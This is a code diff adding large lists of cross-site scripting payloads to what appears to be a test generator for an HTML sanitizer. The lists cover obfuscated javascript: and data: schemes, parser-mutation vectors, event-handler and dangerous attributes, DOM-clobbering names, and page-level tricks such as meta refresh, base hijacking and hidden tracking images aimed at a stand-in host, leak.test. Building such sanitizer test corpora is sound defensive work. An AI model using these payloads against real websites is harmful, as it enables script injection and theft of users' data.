@@ -9,6 +9,19 @@ const SCHEMES = [
   'javascript&colon;pwn(1)', 'vbscript:pwn(1)', 'data:text/html,<script>pwn(1)</script>', 'data:image/svg+xml,<svg onload=pwn(1)>',
   'blob:https://leak.test/1', 'view-source:javascript:pwn(1)', '//leak.test/x', 'filesystem:https://leak.test/x',
 ];
+/** Odd ways to write a scheme; what they are in is a link or an image alone. */
+const ODD_SCHEMES = [
+  'ｊavascript:pwn(1)', 'javaſcript:pwn(1)', 'ja\u00advascript:pwn(1)', 'java\u200bscript:pwn(1)', '\u202ejavascript:pwn(1)', '\ufeffjavascript:pwn(1)',
+  '\u00a0javascript:pwn(1)', '\u3000javascript:pwn(1)', '\u2028javascript:pwn(1)', 'javascript：pwn(1)', 'javascript\u0589pwn(1)', 'jav%61script:pwn(1)',
+  'javascript%3apwn(1)', '&#106;avascript:pwn(1)', '&#x6a&#x61vascript:pwn(1)', '&#0000106avascript:pwn(1)', 'java&Tab;script:pwn(1)', '&NewLine;javascript:pwn(1)',
+  'javascript&#58pwn(1)', 'java&#0;script:pwn(1)', 'java\0script:pwn(1)', '\x1fjavascript:pwn(1)', 'javascript\n:pwn(1)', 'javascript://x%0apwn(1)', 'javascript:javascript:pwn(1)',
+  'x:javascript:pwn(1)', 'feed:javascript:pwn(1)', 'livescript:pwn(1)', 'mocha:pwn(1)', 'jar:javascript:pwn(1)', 'intent:x#Intent;end', 'about:srcdoc', 'chrome://settings',
+  'data:;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=', 'data:text/html;charset=utf-7,+ADw-script+AD4-pwn(1)', 'DATA:image/SVG+XML;base64,PHN2ZyBvbmxvYWQ9cHduKDEpPg==',
+  'data:image/svg+xml;charset=utf8,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn(1)"/>', 'data:image/png;x=image/svg+xml,<svg>', 'data:image/png,x#<svg onload=pwn(1)>',
+  'data: image/svg+xml,<svg onload=pwn(1)>', 'data:application/xhtml+xml,<x/>', 'data:text/xml,<x/>', 'data:image/x-icon,x', 'data:image/gif', 'data:image/png\u2044svg,x',
+  'http:javascript:pwn(1)', 'https://a:b@leak.test/', 'https://leak.test\\@ok.test/', '\\\\leak.test/x', '/\\leak.test/x', '/\t/leak.test/x', 'https:leak.test', 'http:///leak.test',
+  'https://ok.test\u3002leak.test/', 'https://ｏk.test/', 'https://o\u0301k.test/', 'https://xn--80ak6aa92e.test/', 'ws://BÜCHER.test/', 'mailto:a@ok.test?attach=/etc/passwd', 'tel:*#06#',
+];
 /** `@` stands for the address. */
 const SINKS = [
   '<a href="@">x</a>', '<a href="/x" ping="@">x</a>', '<area href="@">', '<img src="@">', '<img srcset="/a.png 1x, @ 2x">',
@@ -37,13 +50,38 @@ const BREAKOUTS = [
   (/** @type {string} */ tag) => `<${tag}><a title="</${tag}><img src=x onerror=pwn(1)>">`,
 ];
 
+/** Where a parser changes its mind: namespaces in namespaces, raw text in tables, forms in forms. `@` stands for what must not be born. */
+const MUTATIONS = [
+  '<math><annotation-xml encoding="application/xhtml+xml"><svg><style>@</style></svg></annotation-xml></math>', '<math><annotation-xml encoding="TEXT/HTML"><style><!--</style>@-->',
+  '<svg><desc><math><mtext><style>@</style>', '<svg><title><svg><desc><style>@</style>', '<svg></svg><svg><style><a id="</style>@">', '<svg><foreignobject><math><mi><xmp>@</xmp>',
+  '<math><mtext><svg><mtext><style>@</style>', '<math><mi><table><tr><mglyph><style>@</style>', '<math><mtext><table><malignmark><style><!--</style>@-->', '<math><ms><svg><p><style>@</style>',
+  '<table><svg><style>@</style></svg><td>x</table>', '<table><tr><style>@</style><td><svg><style>@', '<table><select><option><style>@</style></table>', '<table><caption><svg><desc><td>@',
+  '<table><colgroup><template><col><style>@</style></template></table>', '<table><!--@--><tr>--!>@<td>x</table>', '<table><form><input><tr><td><form>@</form></table>', '<table><a href="/x">@<tr><td></a>@',
+  '<select><select><svg><style>@</style>', '<select><script>@</script><textarea>@</textarea></select>', '<select><option><math><mi><style>@', '<select><keygen><noscript>@</noscript></select>',
+  '<noscript><p title="</noscript>@">', '<noscript><style></noscript>@</style>', '<noscript><!--</noscript>@-->', '<noembed><!--</noembed>@-->', '<noframes><p title="</noframes>@">',
+  '<template><svg><style>@</style></svg></template>', '<template><template shadowrootmode=open>@</template>@</template>', '<template><tr><td>@</template>', '<template></template><template>@',
+  '<plaintext>@', '<svg><plaintext><style>@</style>', '<p><plaintext></p>@', '<xmp><p title="</xmp>@">', '<listing>\n\n&lt;/listing>@', '<textarea>\n</textarea>@', '<title><a href="</title>@">',
+  '<frameset><noframes>@</noframes></frameset>', '<frameset onload=pwn(1)><frame src="javascript:pwn(1)">', '<body><frameset>@', '<head><style>@</style><body onload=pwn(1)>@',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>@">', '<form><div></form><form>@', '<svg><form><foreignObject></form><form>@',
+  '<a><svg><a><p>@</a>', '<b><math><b><mi><table><b>@', '<nobr><table><nobr>@', '<button><svg><button>@', '<object><svg><object><p>@</object>', '<applet><math><p>@</applet>',
+  '<!-->@-->', '<!--->@-->', '<!--x--!>@-->', '<!-- <!-- -->@-->', '<!x>@', '<?x @?>', '<?xml-stylesheet href="javascript:pwn(1)"?>@', '<![CDATA[>@]]>', '<svg><![CDATA[</svg>@]]>',
+  '<svg><![CDATA[><style>]]><style>@</style>', '</ @>', '</x @>', '<x/@>', '<x @=@>', '<p =@>', '<p "@">', "<p '@'>", '<p `@`>', '<p title=`@`>', '<p title=\'"@\'>', '<p title="&quot;>@">',
+  '<p title="&lt;@&gt;">', '&lt;@&gt;', '&amp;lt;@', '<svg><p>@', '<math><p>@', '<svg><br>@', '<svg></p>@', '<math></br>@', '<svg><font color=x>@', '<svg><font>@', '<svg><body>@', '<svg><html onload=pwn(1)>@',
+  '<image src=x onerror=pwn(1)>@', '<isindex prompt="@" action="javascript:pwn(1)">', '<keygen autofocus onfocus=pwn(1)>@', '<ruby><rb><rtc><style>@</style>', '<dl><dd><svg><dt><style>@</style>',
+  '<details><svg><summary><style>@</style>', '<picture><svg><source srcset="javascript:pwn(1)">@', '<video><track src=x onerror=pwn(1)>@</video>', '<map name=x><area href="javascript:pwn(1)">@</map>',
+];
+const BORN = ['<img src=x onerror=pwn(1)>', '<script>pwn(1)</script>', '<svg onload=pwn(1)>', '<iframe srcdoc="<script>parent.pwn(1)</script>"></iframe>'];
+
 const NAMES = [
   'body', 'cookie', 'getElementById', 'querySelector', 'location', 'top', 'self', 'name', 'length', 'parentNode', 'attributes', 'nodeName',
   'submit', 'elements', 'action', 'createElement', 'defaultView', 'hasOwnProperty', '__proto__', 'constructor', 'CD-', 'cd-x y',
+  'head', 'forms', 'images', 'children', 'childNodes', 'firstChild', 'nextSibling', 'ownerDocument', 'innerHTML', 'textContent', 'setAttribute', 'removeChild', 'tagName',
+  'document', 'window', 'parent', 'opener', 'frames', 'history', 'origin', 'status', 'closed', 'then', 'toString', 'valueOf', 'method', 'target', 'enctype', 'reset', '0', 'cd-', '',
 ];
 const NAMED = [
   '<p id="@">x</p>', '<a id="@" href="/x">x</a><a href="#@">y</a>', '<a name="@" href="/x">x</a><a href="#@">y</a>', '<img name="@" src="/a.png">',
-  '<form id="@"><input name="@"></form>', '<iframe name="@"></iframe>',
+  '<form id="@"><input name="@"></form>', '<iframe name="@"></iframe>', '<a id="@"></a><a id="@" name="@" href="/x">x</a>', '<object id="@" name="@"></object><embed name="@">',
+  '<p id="x"></p><output form="x" name="@">y</output><label for="@">z</label>', '<h2 id="cd-@">x</h2><a href="#cd-@">y</a><a href="#@">z</a>',
 ];
 
 const PROPERTIES = ['background', 'list-style', 'content', 'cursor', 'filter', 'mask', 'clip-path', 'border-image', 'shape-outside', 'offset-path'];
@@ -53,6 +91,38 @@ const ODD = [
 ];
 const AROUND_ODD = [
   '<a href="java@script:pwn(1)">x</a>', '<img src=x @onerror=pwn(1)>', '<@img src=x onerror=pwn(1)>', '<p title="@<img src=x onerror=pwn(1)>">x</p>', '<pre>@\n@x</pre>',
+];
+
+/** Attributes that do something on whichever element has them. */
+const ATTRIBUTES = [
+  'style="width:expression(pwn(1))"', 'style="-moz-binding:url(//leak.test/x#y)"', 'style="behavior:url(//leak.test/x)"', 'style="position:fixed;inset:0;z-index:9"', 'style="content:\'</style>\'"',
+  'background="//leak.test/x"', 'lowsrc="//leak.test/x"', 'dynsrc="javascript:pwn(1)"', 'longdesc="javascript:pwn(1)"', 'usemap="#x"', 'ping="//leak.test/x"', 'attributionsrc="//leak.test/x"',
+  'srcdoc="<script>pwn(1)</script>"', 'srcset="//leak.test/x 1x, javascript:pwn(1) 2x"', 'imagesrcset="//leak.test/x"', 'poster="//leak.test/x"', 'manifest="//leak.test/x"', 'profile="//leak.test/x"',
+  'action="javascript:pwn(1)"', 'formaction="javascript:pwn(1)"', 'data="javascript:pwn(1)"', 'code="//leak.test/x"', 'classid="clsid:x"', 'codebase="javascript:"', 'xlink:href="javascript:pwn(1)"',
+  'xml:base="javascript:pwn(1)"', 'xmlns="http://www.w3.org/1999/xhtml"', 'target=_blank', 'target="_blank" rel="opener"', 'target=x rel=""', 'popover=auto onbeforetoggle=pwn(1)', 'popovertarget=x', 'commandfor=x command=show-modal',
+  'interestfor=x', 'contenteditable autofocus onfocus=pwn(1)', 'tabindex=0 autofocus onfocusin=pwn(1)', 'accesskey=x onclick=pwn(1)', 'draggable=true ondragstart=pwn(1)', 'hidden=until-found onbeforematch=pwn(1)', 'is=x-y', 'slot=x', 'part=x',
+  'nonce=x', 'itemprop=x itemtype="javascript:pwn(1)"', 'download="x.exe"', 'referrerpolicy=unsafe-url', 'loading=eager fetchpriority=high', 'crossorigin=use-credentials', 'sandbox="allow-scripts"', 'http-equiv=refresh content="0;url=javascript:pwn(1)"',
+  'onclick\u00a0=pwn(1)', 'on\0click=pwn(1)', 'ONCLICK=pwn(1)', 'x:onclick=pwn(1)', 'data-onclick=pwn(1)', '/onclick=pwn(1)', 'style/onclick=pwn(1)', 'title="x"onclick=pwn(1)', 'class="cd-caption modal" lang="x" dir="\u202e"',
+];
+const BEARERS = ['a href=/x', 'img src=/a.png alt=x', 'p', 'blockquote cite=/x', 'table', 'div', 'h2 id=x', 'details', 'video', 'svg', 'body', 'form'];
+
+/** What moves, frames or describes the whole page. */
+const PAGES = [
+  '<meta http-equiv=refresh content="0;url=//leak.test/x">', '<meta http-equiv="Refresh" content="0; URL=\'javascript:pwn(1)\'">', '<meta http-equiv=set-cookie content="x=1">',
+  '<meta http-equiv=content-security-policy content="script-src *">', '<meta charset=utf-7>+ADw-script+AD4-pwn(1)+ADw-/script+AD4-', '<base href="//leak.test/"><a href=x>y</a><img src=z>',
+  '<base target=_blank><a href=/x>y</a>', '<base href="javascript:/"><a href=pwn(1)>x</a>', '<html manifest="//leak.test/x"><body background="//leak.test/x">x', '<body onload=pwn(1) onhashchange=pwn(1)>x',
+  ...['stylesheet', 'preload', 'prefetch', 'prerender', 'modulepreload', 'preconnect', 'manifest', 'icon', 'import', 'alternate stylesheet'].map((rel) => `<link rel="${rel}" href="//leak.test/x" as=script>`),
+  '<script type=speculationrules>{"prerender":[{"urls":["//leak.test/x"]}]}</script>', '<script type=module>pwn(1)</script>', '<script type="text/x">x</script>', '<script nomodule src="//leak.test/x"></script>',
+  '<style>@import url(//leak.test/x);@font-face{font-family:x;src:url(//leak.test/x)}*{font-family:x;background:url(//leak.test/x)}</style><p>x', '<style>@namespace x url(//leak.test/x);</style>',
+  '<object data="data:text/html,<script>parent.pwn(1)</script>" type="text/html">x</object>', '<object type="image/svg+xml" data="//leak.test/x"><param name=src value="javascript:pwn(1)">x</object>',
+  '<embed src="//leak.test/x" type="application/pdf">', '<applet archive="//leak.test/x" code=x>x</applet>', '<portal src="//leak.test/x"></portal>', '<fencedframe config=x></fencedframe>', '<bgsound src="//leak.test/x">',
+  '<layer src="//leak.test/x"></layer>', '<marquee onstart=pwn(1)>x</marquee>', '<dialog open onclose=pwn(1)><form method=dialog><button>x</button></form></dialog>', '<form action="//leak.test/x"><input name=token><button>x</button></form>',
+  '<input type=image src="//leak.test/x" formaction="javascript:pwn(1)">', '<a href="/x" target=_blank rel=opener>x</a>', '<a href="//leak.test/x" target="x\ty&lt;z">y</a>', '<math><maction actiontype="statusline#x" xlink:href="javascript:pwn(1)">x</maction></math>',
+  '<svg><animate attributeName=href values="javascript:pwn(1)" /><a id=x href="/x"><text>y</text></a></svg>', '<svg><set attributeName=onclick to=pwn(1) /></svg>', '<svg><handler type="text/ecmascript" ev:event=load>pwn(1)</handler></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn(1)>#x" /></svg>', '<svg><feImage href="//leak.test/x" /></svg>', '<svg><script href="//leak.test/x" /></svg>', '<svg><foreignObject><iframe src="javascript:pwn(1)"></iframe></foreignObject></svg>',
+  '<img src=/p.gif width=1 height=1>', '<img src="//leak.test/p.gif" style="position:absolute;left:-9999px">', '<noscript><img src="//leak.test/p.gif" width=1 height=1></noscript>', '<iframe src="//leak.test/x" width=0 height=0></iframe>',
+  '<p>[x](javascript:pwn(1)) ![y](data:text/html,z) &lt;javascript:pwn(1)&gt;</p>', '<p>```\n&lt;script>pwn(1)&lt;/script>\n```</p>', '<a href="https://ok.test/)[x](javascript:pwn(1))">x</a>', '<a href="https://ok.test/&gt;&lt;img src=x onerror=pwn(1)&gt;">x</a>',
+  '<p>a\u202eb\u2066c<a href="/x\u202e">y\u202e</a></p>', '<bdo dir="rtl">x<bdo dir="javascript:">y</bdo></bdo>', '<p lang="x\u202e" title="\u2067">y</p>', '<ol type="javascript:" start="1e9" reversed=x><li value="-0x1">y</ol>',
 ];
 
 const OTHERS = [
@@ -71,6 +141,10 @@ const each = (frames, fillings) => frames.flatMap((frame) => fillings.map((filli
 export function ownPayloads() {
   const kinds = {
     scheme: each(SINKS, SCHEMES),
+    'odd-scheme': each(['<a href="@">x</a>', '<img src="@" alt=x>', '<img srcset="@ 2x" src=/a.png>', '<q cite="@">x</q>'], ODD_SCHEMES.map((address) => address.replaceAll('"', '&quot;'))),
+    mutation: each(MUTATIONS, BORN),
+    attribute: BEARERS.flatMap((bearer) => ATTRIBUTES.map((attribute) => `<${bearer} ${attribute}>x</${bearer.split(' ')[0]}>`)),
+    page: PAGES,
     event: ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} on${event}=pwn(1)>x`)),
     namespace: SPACES.flatMap((space) => RAW_TEXT.flatMap((tag) => BREAKOUTS.map((breakout) => space + breakout(tag)))),
     clobber: each(NAMED, NAMES),
